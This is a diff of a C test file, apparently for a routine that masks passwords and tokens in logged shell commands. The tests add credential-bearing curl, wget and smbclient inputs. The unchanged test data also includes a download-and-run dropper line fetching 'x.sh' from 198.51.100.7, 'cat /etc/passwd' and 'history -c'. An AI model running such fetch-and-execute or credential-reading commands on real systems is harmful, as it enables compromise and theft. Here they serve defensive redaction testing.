@@ -29,8 +29,10 @@ test_kept(void)
 		"cd /tmp || cd /var/run; wget http://198.51.100.7/x.sh; chmod 777 x.sh; sh x.sh",
 		"mkdir -p /tmp/.x && cd /tmp/.x", "echo -e \"\\x6F\\x6B\"",
 		"cat /etc/passwd", "a=b", "=x", "==", "sudo ==", "su -p",
-		"A=1 B=2 ./x --a=b", "://", "su ://", "@", "x://",
-		"curl -o a ftp://198.51.100.7:2121/a", "", " ", "\"'|;&", "history -c" };
+		"A=1 B=2 ./x --a=b", "ftpget -u anonymous -p anonymous 198.51.100.7 a b",
+		"KEY= ./x", "curl -H 'Accept: */*' -u me http://x/", "://", "su ://", "@",
+		"x://", "curl -o a ftp://198.51.100.7:2121/a", "", " ", "\"'|;&",
+		"history -c" };
 
 	for (size_t i = 0; i < sizeof AS_THEY_ARE / sizeof AS_THEY_ARE[0]; i++)
 		check_shown(AS_THEY_ARE[i], AS_THEY_ARE[i]);
@@ -47,6 +49,10 @@ test_cut(void)
 	check_shown("curl --user me:" SECRET " http://198.51.100.7/",
 	    "curl --user *** http://198.51.100.7/");
 	check_shown("useradd -p " SECRET " bob", "useradd -p *** bob");
+	check_shown("curl -u me:" SECRET " http://x/", "curl -u *** http://x/");
+	check_shown("curl -H 'Authorization: Basic " SECRET "' http://x/",
+	    "curl -H 'Authorization: ***' http://x/");
+	check_shown("PGPASSWORD=" SECRET " psql -l", "PGPASSWORD=*** psql -l");
 }
 
 /* However it is written. */
@@ -66,7 +72,15 @@ test_never(void)
 		"echo root:" SECRET " > f; chpasswd < f",
 		"echo \"unfinished:" SECRET " | chpasswd",
 		"mkpasswd " SECRET " x:" SECRET, "echo " SECRET " | sudo -S ls",
-		"echo " SECRET "|su -c id" };
+		"echo " SECRET "|su -c id", "export AWS_SECRET_ACCESS_KEY=" SECRET,
+		"smbclient //h/s -U me%" SECRET, "lftp -u me," SECRET " h",
+		"TOKEN='" SECRET "' ./x", "wget --http-password=" SECRET " http://x/",
+		"wget --header='X-Api-Key: " SECRET "' http://x/",
+		"curl -H \"authorization: Bearer " SECRET "\" http://x/",
+		"curl 'http://x/?token=" SECRET "&a=b'",
+		"curl -d 'user=a&password=" SECRET "' http://x/",
+		"curl -b 'a=b' -H 'Cookie: s=" SECRET "' http://x/",
+		"password=" SECRET "; echo $password" };
 
 	for (size_t i = 0; i < sizeof COMMANDS / sizeof COMMANDS[0]; i++) {
 		auto_buf out = BUF_INIT(2000);
